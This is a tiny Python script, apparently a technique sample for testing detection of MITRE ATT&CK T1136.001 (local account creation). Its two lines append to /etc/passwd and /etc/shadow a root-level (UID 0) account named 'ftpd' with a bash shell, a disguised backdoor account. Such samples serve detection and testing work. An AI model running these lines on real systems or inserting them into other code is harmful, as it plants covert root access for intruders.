#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# T1136.001 Local Account: done in another way than in tests/data/techniques, or there not at all.
open('/etc/passwd','a').write('ftpd:x:0:0::/root:/bin/bash\n')
open('/etc/shadow','a').write('ftpd:*:19000:0:99999:7:::\n')
